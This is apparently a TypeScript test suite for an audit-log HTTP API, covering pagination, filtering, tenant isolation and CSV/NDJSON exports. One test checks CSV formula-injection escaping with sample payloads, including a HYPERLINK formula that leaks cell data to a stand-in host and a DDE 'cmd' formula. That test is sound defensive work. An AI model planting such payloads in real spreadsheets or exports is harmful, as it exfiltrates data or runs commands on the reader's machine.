// The audit API on a whole system (PGlite log, Cedar, audit projector into chDB): filters, complete
// pagination, tenant isolation, streamed NDJSON and CSV exports, 400 problems naming the parameter, and
// who may read the index. Commands go through the API; reads wait for the audit projector first.
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isLeft } from 'fp-ts/lib/Either.js';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { AUDIT_TABLE, type AuditRow, type ClickHouseStore } from '../analytics-store/clickhouse/index.js';
import { issueDevelopmentToken, type DevelopmentTokenClaims } from '../auth/jwt.js';
import { openSystem, type System } from '../../bin/system.js';
import { TEST_SEED } from '../../test/test-events.js';
import { AUDIT_ENTRY_FIELDS } from '../../schemas/audit.js';
import { loadConfig } from '../../schemas/config.js';
import { openTestAnalytics } from '../../test/analytics.js';
import { openMemoryLog, type TestLog } from '../../test/logs.js';
import { EXPORT_PAGE } from './routes/audit.js';

const JWT_SECRET = 'test-secret-of-at-least-32-bytes!!';

interface Answer {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
  // Tests inspect arbitrary JSON answers.
  readonly body: any;
}

let testLog: TestLog;
let analytics: ClickHouseStore;
let system: System;
let dataDir: string;
const tokens: Record<string, string> = {};

async function token(claims: DevelopmentTokenClaims): Promise<string> {
  return issueDevelopmentToken(new TextEncoder().encode(JWT_SECRET), system.config.jwt, claims, Math.floor(Date.now() / 1000));
}

async function call(method: string, path: string, who?: string, body?: unknown, headers: Record<string, string> = {}): Promise<Answer> {
  const h: Record<string, string> = { ...headers };
  if (who !== undefined) h['authorization'] = `Bearer ${tokens[who]}`;
  if (body !== undefined) h['content-type'] = 'application/json';
  const res = await system.app.request(path, { method, headers: h, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
  const text = await res.text();
  return { status: res.status, headers: res.headers, text, body: /^application\/(problem\+)?json/.test(res.headers.get('content-type') ?? '') ? JSON.parse(text) : undefined };
}

/** Read-your-writes: waits until the audit projector has applied everything the log holds now. */
async function settle(): Promise<void> {
  const head = await system.log.headPosition();
  const audit = system.projectors().find((p) => p.name === 'audit');
  assert.ok(audit, 'the audit projector runs');
  if (head !== undefined) assert.ok(await audit.waitFor(head, 30_000), `audit projector reached ${head}: ${JSON.stringify(audit.status(), (_k, v) => (typeof v === 'bigint' ? String(v) : v))}`);
}

/** Event ids the log holds for `tenant`: what a complete answer must contain, once each. */
async function logIds(tenant: string): Promise<Set<string>> {
  return new Set((await system.log.readAll()).filter((r) => r.stream.startsWith(`${tenant}/`)).map((r) => r.id));
}

/** Follows `next` links to the end; returns every entry in order. */
async function allPages(query: string, who = 'admin'): Promise<any[]> {
  const out: any[] = [];
  let path: string | undefined = `/v1/audit/events?${query}`;
  for (let pages = 0; path !== undefined; pages++) {
    assert.ok(pages < 1000, 'pagination ends');
    const r = await call('GET', path, who);
    assert.is(r.status, 200, r.text);
    out.push(...r.body.events);
    path = r.body.next;
  }
  return out;
}

const prov = { sourceSystem: 'audit-test', observedAt: '2026-01-01T00:00:00Z' };
const upsert = (id: string, extra: Record<string, unknown> = {}) => ({ id, type: 'Service', region: 'us-east', attributes: {}, provenance: { ...prov, ...extra } });

const api = suite('HTTP: audit index');

api.before(async () => {
  testLog = await openMemoryLog();
  analytics = await openTestAnalytics();
  dataDir = await mkdtemp(join(tmpdir(), 'companyos-audit-api-'));
  // No checkpointer: its checkpoint events (<tenant>/ledger) land whenever the tree grows, so a test comparing the
  // index with the log would race them. The index of checkpoints is the checkpointer's tests' business.
  const config = loadConfig({ COMPANYOS_DATA_DIR: dataDir, COMPANYOS_SIGNING_KEY: Buffer.from(TEST_SEED).toString('base64'), COMPANYOS_JWT_SECRET: JWT_SECRET, COMPANYOS_CHECKPOINT_INTERVAL: '0' });
  if (isLeft(config)) throw new Error(config.left.join('; '));
  system = await openSystem(config.right, { log: testLog.log, analytics });
  system.startProjectors({ headPollMs: 50, retryDelayMs: 50, onError: (e) => console.error('projector:', e) });
  const as = (subject: string, tenant: string, roles: DevelopmentTokenClaims['roles'], region = 'us-east') => token({ subject, tenant, roles, region });
  Object.assign(tokens, {
    admin: await as('ada', 'acme', ['admin']),
    editor: await as('alice', 'acme', ['editor']),
    editorEu: await as('eve', 'acme', ['editor'], 'eu-west'),
    viewer: await as('victor', 'acme', ['viewer']),
    service: await as('svc-ingest', 'acme', ['service']),
    globexAdmin: await as('gus', 'globex', ['admin']),
    globexEditor: await as('gina', 'globex', ['editor']),
    bulkAdmin: await as('bob', 'bulk', ['admin']),
    formulaAdmin: await as('fay', 'formula', ['admin']),
    formulaEditor: await as('fred', 'formula', ['editor']),
  });
  // acme: 30 changes by alice (one with a reason that needs CSV quoting), 5 by the service, denials by a
  // viewer (no permit) and by an editor from another region (residency forbid).
  for (let i = 0; i < 30; i++) {
    const extra = i === 3 ? { reason: 'ticket "CHG-7", approved by ops' } : {};
    const r = await call('POST', '/v1/commands/graph.node.upsert', 'editor', upsert(`svc:${i}`, extra));
    assert.is(r.status, 201, r.text);
  }
  for (let i = 0; i < 5; i++) assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'service', upsert(`ing:${i}`))).status, 201);
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'viewer', upsert('svc:1'), { 'x-request-id': 'req-viewer-write' })).status, 403);
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'editorEu', upsert('svc:2'))).status, 403);
  for (let i = 0; i < 4; i++) assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'globexEditor', upsert(`svc:${i}`))).status, 201);
  await settle();
});

api.after(async () => {
  await system?.close();
  await analytics?.close();
  await testLog?.close();
  await rm(dataDir, { recursive: true, force: true });
});

api('pages newest first with an opaque cursor; all pages hold every event of the tenant exactly once', async () => {
  const first = await call('GET', '/v1/audit/events?limit=7', 'admin');
  assert.is(first.status, 200, first.text);
  assert.is(first.body.events.length, 7);
  assert.type(first.body.nextCursor, 'string');
  assert.match(first.body.next, /^\/v1\/audit\/events\?limit=7&cursor=/);
  const entries = await allPages('limit=7');
  const ids = entries.map((e) => e.eventId);
  assert.is(new Set(ids).size, ids.length, 'no event twice');
  assert.equal(new Set(ids), await logIds('acme'));
  for (let i = 1; i < entries.length; i++) assert.ok(entries[i - 1].time >= entries[i].time, 'newest first');
  const last = await call('GET', `/v1/audit/events?limit=1000`, 'admin');
  assert.is(last.body.events.length, ids.length);
  assert.is(last.body.next, undefined, 'no next link after the last page');
  assert.equal(Object.keys(last.body.events[0]), [...AUDIT_ENTRY_FIELDS]);
});

api('the default page is 100; limit is 1-1000', async () => {
  const r = await call('GET', '/v1/audit/events', 'admin');
  assert.is(r.status, 200);
  assert.ok(r.body.events.length <= 100);
  for (const bad of ['0', '1001', 'ten', '-1']) {
    const b = await call('GET', `/v1/audit/events?limit=${bad}`, 'admin');
    assert.is(b.status, 400, bad);
    assert.match(b.body.errors.join(' '), /^limit: /);
  }
});

api('filters: actor, action, outcome and resource, alone and combined', async () => {
  const byAlice = await allPages('actor=alice&limit=13');
  assert.is(byAlice.length, 30);
  assert.ok(byAlice.every((e) => e.actorId === 'alice' && e.outcome === 'allowed' && e.action === 'graph.node.upserted'));

  const denied = await allPages('outcome=denied');
  assert.ok(denied.length >= 2);
  assert.ok(denied.every((e) => e.outcome === 'denied'));
  const viewerWrite = denied.find((e) => e.actorId === 'victor' && e.action === 'graph.node.upsert');
  assert.ok(viewerWrite, 'the viewer\'s refused write is indexed');
  assert.is(viewerWrite.resource, 'acme/graph.node/svc:1');
  assert.is(viewerWrite.requestId, 'req-viewer-write');
  assert.match(viewerWrite.reason, /^denied: /);
  const residency = denied.find((e) => e.actorId === 'eve');
  assert.match(residency.reason, /token region eu-west, resource region us-east/);

  const svc1 = await allPages(`resource=${encodeURIComponent('acme/graph.node/svc:1')}`);
  assert.equal(svc1.map((e) => e.outcome).sort(), ['allowed', 'denied'], 'the change and the refused attempt on one resource');

  const service = await allPages('actor=svc-ingest&action=graph.node.upserted&outcome=allowed');
  assert.is(service.length, 5);
  assert.ok(service.every((e) => e.actorType === 'user' || e.actorType === 'service'));
  assert.is((await allPages('actor=alice&outcome=denied')).length, 0);
  assert.is((await allPages('action=no.such.action')).length, 0);
});

api('the declared purpose (X-Purpose, or the token claim) is on each row, filterable; a denial keeps its purpose too', async () => {
  Object.assign(tokens, {
    intentAdmin: await token({ subject: 'ida', tenant: 'intent', roles: ['admin'], region: 'us-east' }),
    intentViewer: await token({ subject: 'ivo', tenant: 'intent', roles: ['viewer'], region: 'us-east', purpose: 'incident-9' }),
  });
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'intentAdmin', upsert('svc:why'), { 'x-purpose': 'support-ticket:4711' })).status, 201);
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'intentAdmin', upsert('svc:plain'))).status, 201);
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'intentViewer', upsert('svc:why'))).status, 403);
  await settle();
  const all = await allPages('', 'intentAdmin');
  assert.equal(all.map((e) => [e.resource, e.outcome, e.purpose]).sort(), [
    ['intent/graph.node/svc:plain', 'allowed', ''],
    ['intent/graph.node/svc:why', 'allowed', 'support-ticket:4711'],
    ['intent/graph.node/svc:why', 'denied', 'incident-9'],
  ]);
  const ticket = await allPages(`purpose=${encodeURIComponent('support-ticket:4711')}`, 'intentAdmin');
  assert.equal(ticket.map((e) => [e.actorId, e.action]), [['ida', 'graph.node.upserted']]);
  const incident = await allPages('purpose=incident-9&outcome=denied', 'intentAdmin');
  assert.equal(incident.map((e) => [e.actorId, e.action]), [['ivo', 'graph.node.upsert']]);
  const csv = await call('GET', '/v1/audit/export?format=csv&purpose=incident-9', 'intentAdmin');
  assert.is(csv.status, 200);
  const [header, row] = csv.text.split('\r\n');
  assert.is(header!.split(',').at(-1), 'purpose');
  assert.is(row!.split(',').at(-1), 'incident-9');
  const bad = await call('GET', `/v1/audit/events?purpose=${encodeURIComponent('a\tb')}`, 'intentAdmin');
  assert.is(bad.status, 400);
  assert.match(bad.body.detail, /purpose/);
});

api('from is inclusive, to exclusive; together they split the answer without overlap', async () => {
  const all = await allPages('limit=1000');
  const middle = all[Math.floor(all.length / 2)].time as string;
  const newer = await allPages(`from=${encodeURIComponent(middle)}`);
  const older = await allPages(`to=${encodeURIComponent(middle)}`);
  assert.ok(newer.every((e) => e.time >= middle) && older.every((e) => e.time < middle));
  assert.is(newer.length + older.length, all.length);
  assert.is((await allPages(`from=${encodeURIComponent(middle)}&to=${encodeURIComponent(middle)}`)).length, 0);
});

api('tenant isolation: the token decides the tenant; no parameter can name another', async () => {
  const globex = await allPages('limit=1000', 'globexAdmin');
  assert.equal(new Set(globex.map((e) => e.eventId)), await logIds('globex'));
  assert.ok(globex.every((e) => e.tenant === 'globex'));
  const acmeIds = await logIds('acme');
  assert.ok(globex.every((e) => !acmeIds.has(e.eventId)));
  const sneaky = await call('GET', '/v1/audit/events?tenant=acme', 'globexAdmin');
  assert.is(sneaky.status, 400);
  assert.match(sneaky.body.detail, /tenant: unknown field/);
  // A cursor from acme's answer only moves the position: globex still sees globex.
  const cursor = (await call('GET', '/v1/audit/events?limit=1', 'admin')).body.nextCursor;
  const moved = await call('GET', `/v1/audit/events?cursor=${cursor}`, 'globexAdmin');
  assert.is(moved.status, 200);
  assert.ok(moved.body.events.every((e: any) => e.tenant === 'globex'));
});

api('bad parameters are 400 problems naming the parameter', async () => {
  const cases: [string, RegExp][] = [
    ['from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', /^to: must not be before from/],
    ['outcome=maybe', /^outcome: /],
    ['cursor=not-a-cursor!', /^cursor: /],
    [`cursor=${Buffer.from('["yesterday","x"]').toString('base64url')}`, /^cursor: /],
    ['from=yesterday', /^from: /],
    ['actor=', /^actor: /],
    ['colour=red', /^colour: unknown field/],
  ];
  for (const [query, message] of cases) {
    const r = await call('GET', `/v1/audit/events?${query}`, 'admin');
    assert.is(r.status, 400, query);
    assert.is(r.headers.get('content-type'), 'application/problem+json');
    assert.is(r.body.code, 'bad-query');
    assert.ok(r.body.errors.some((e: string) => message.test(e)), `${query}: ${r.body.errors}`);
  }
  for (const query of ['format=xml', 'limit=10', 'from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z']) {
    const r = await call('GET', `/v1/audit/export?${query}`, 'admin');
    assert.is(r.status, 400, query);
    assert.is(r.body.code, 'bad-query');
  }
});

api('only admins read the audit index; every refusal is itself a denied row', async () => {
  assert.is((await call('GET', '/v1/audit/events')).status, 401);
  for (const who of ['viewer', 'editor', 'service']) {
    for (const path of ['/v1/audit/events', '/v1/audit/export']) {
      const r = await call('GET', path, who);
      assert.is(r.status, 403, `${who} ${path}`);
      assert.is(r.body.code, 'forbidden');
      assert.equal(r.body.determiningPolicies, ['audit-index-admins']);
    }
  }
  await settle();
  const refusals = await allPages('outcome=denied&action=audit.read');
  assert.equal(refusals.map((e) => e.actorId).sort(), ['alice', 'svc-ingest', 'victor']);
  assert.ok(refusals.every((e) => e.resource === 'AuditIndex:acme'));
});

api('export NDJSON: streamed as an attachment, every event once, each line an entry', async () => {
  await settle();
  const r = await call('GET', '/v1/audit/export', 'admin');
  assert.is(r.status, 200);
  assert.match(r.headers.get('content-type')!, /^application\/x-ndjson/);
  assert.match(r.headers.get('content-disposition')!, /^attachment; filename="audit-acme\.ndjson"$/);
  assert.ok(r.text.endsWith('\n'));
  const entries = r.text.trimEnd().split('\n').map((line) => JSON.parse(line));
  assert.equal(new Set(entries.map((e) => e.eventId)), await logIds('acme'));
  assert.is(entries.length, (await logIds('acme')).size);
  const filtered = await call('GET', '/v1/audit/export?actor=alice&outcome=allowed&format=ndjson', 'admin');
  assert.is(filtered.text.trimEnd().split('\n').length, 30);
});

/** RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') record.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field), records.push(record), (record = []), (field = ''), i++;
    } else field += ch;
  }
  assert.is(field + record.join(''), '', 'the last record ends with CRLF');
  return records;
}

api('export CSV: a header row, RFC 4180 quoting, every event once', async () => {
  await settle();
  const r = await call('GET', '/v1/audit/export?format=csv', 'admin');
  assert.is(r.status, 200);
  assert.match(r.headers.get('content-type')!, /^text\/csv/);
  assert.match(r.headers.get('content-disposition')!, /^attachment; filename="audit-acme\.csv"$/);
  const [header, ...records] = parseCsv(r.text);
  assert.equal(header, [...AUDIT_ENTRY_FIELDS]);
  assert.ok(records.every((rec) => rec.length === AUDIT_ENTRY_FIELDS.length));
  const column = (name: string) => AUDIT_ENTRY_FIELDS.indexOf(name as never);
  assert.equal(new Set(records.map((rec) => rec[column('eventId')])), await logIds('acme'));
  assert.is(records.length, (await logIds('acme')).size);
  assert.ok(records.some((rec) => rec[column('reason')] === 'ticket "CHG-7", approved by ops'), 'a reason with quotes and a comma survives');
});

api(`export across internal pages of ${EXPORT_PAGE}: ties on time broken by event id, nothing lost or doubled`, async () => {
  // Written straight into the index: 2.4 pages, 1,000 events per millisecond so pages end inside ties.
  const total = Math.floor(EXPORT_PAGE * 2.4);
  const rows: AuditRow[] = Array.from({ length: total }, (_, i) => ({
    tenant: 'bulk', time: new Date(Date.UTC(2026, 0, 1) + Math.floor(i / 1000)).toISOString(), actor_id: `u-${i % 7}`, actor_type: 'user',
    action: 'graph.node.upserted', resource: `bulk/graph.node/n${i}`, outcome: 'allowed', decision_id: randomUUID(), policy_version: 'p',
    region: 'us-east', request_id: `r-${i}`, event_id: randomUUID(), position: String(i + 1), hash: 'a'.repeat(64), purpose: '',
    // Sealed reasons have no line breaks today; the CSV must still carry one intact if a writer allows it.
    reason: i === 42 ? 'line one\r\nline "two", end' : '',
  }));
  await analytics.insert(AUDIT_TABLE, rows);
  await analytics.insert(AUDIT_TABLE, rows.slice(0, 100)); // a re-inserted batch, as after a crash
  for (const format of ['ndjson', 'csv']) {
    const r = await call('GET', `/v1/audit/export?format=${format}`, 'bulkAdmin');
    assert.is(r.status, 200);
    const ids =
      format === 'csv'
        ? parseCsv(r.text).slice(1).map((rec) => rec[AUDIT_ENTRY_FIELDS.indexOf('eventId')])
        : r.text.trimEnd().split('\n').map((line) => JSON.parse(line).eventId);
    assert.is(ids.length, total, format);
    assert.equal(new Set(ids), new Set(rows.map((row) => row.event_id)), format);
    if (format === 'csv') assert.ok(parseCsv(r.text).some((rec) => rec[AUDIT_ENTRY_FIELDS.indexOf('reason')] === 'line one\r\nline "two", end'));
  }
  const paged = await allPages('limit=1000', 'bulkAdmin');
  assert.is(paged.length, total);
  assert.is(new Set(paged.map((e) => e.eventId)).size, total);
  const byActor = await allPages('actor=u-3&limit=1000', 'bulkAdmin');
  assert.is(byActor.length, rows.filter((row) => row.actor_id === 'u-3').length);
});

api('export CSV: a cell a spreadsheet would run as a formula is quoted and starts with a single quote (OWASP)', async () => {
  // One through the API, as an attacker would write it: a command's reason.
  const link = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'formulaEditor', upsert('svc:f', { reason: link }))).status, 201);
  await settle();
  // The rest straight into the index: every trigger, and text that merely contains one.
  const dangerous = ['+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', '  =1+1', '\uFF1D1+1', '=cmd|\' /C calc\'!A0', '\0=1'];
  const harmless = ['plain', 'a=b', 'ticket 7, approved', '', '1-2'];
  const rows: AuditRow[] = [...dangerous, ...harmless].map((reason, i) => ({
    tenant: 'formula', time: new Date(Date.UTC(2026, 0, 2, 0, 0, i)).toISOString(), actor_id: 'u', actor_type: 'user',
    action: 'graph.node.upserted', resource: `formula/graph.node/n${i}`, outcome: 'allowed', decision_id: randomUUID(), policy_version: 'p',
    region: 'us-east', request_id: `r-${i}`, event_id: randomUUID(), position: String(1_000_000 + i), hash: 'b'.repeat(64), reason, purpose: '',
  }));
  await analytics.insert(AUDIT_TABLE, rows);
  const r = await call('GET', '/v1/audit/export?format=csv', 'formulaAdmin');
  assert.is(r.status, 200, r.text);
  const reasons = parseCsv(r.text).slice(1).map((rec) => rec[AUDIT_ENTRY_FIELDS.indexOf('reason')]!);
  for (const reason of [link, ...dangerous]) assert.ok(reasons.includes(`'${reason}`), `escaped: ${JSON.stringify(reason)} in ${JSON.stringify(reasons)}`);
  for (const reason of harmless) assert.ok(reasons.includes(reason), `unchanged: ${JSON.stringify(reason)}`);
  // On the wire: quoted, so the leading quote and the formula stay in one cell.
  assert.ok(r.text.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), r.text);
  // No field starts with a trigger, whatever a reader does with quotes.
  for (const record of parseCsv(r.text)) for (const field of record) assert.not.match(field, /^[=+\-@\t\r\n\uFF1D]/, field);
});

api('the OpenAPI document describes both routes', async () => {
  const doc = (await call('GET', '/openapi.json')).body;
  assert.ok(doc.paths['/v1/audit/events']?.get);
  assert.ok(doc.paths['/v1/audit/export']?.get);
});

api.run();
